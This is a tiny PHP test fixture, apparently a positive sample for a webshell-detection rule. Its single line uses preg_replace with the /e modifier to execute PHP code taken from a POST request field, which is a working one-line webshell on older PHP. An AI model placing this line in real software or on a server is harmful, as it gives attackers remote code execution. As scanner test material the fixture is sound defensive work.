<?php
// Test fixture for Php_Webshell_PregReplaceE_1: the /e modifier on request data.
preg_replace("/.*/e", $_POST['code'], "");
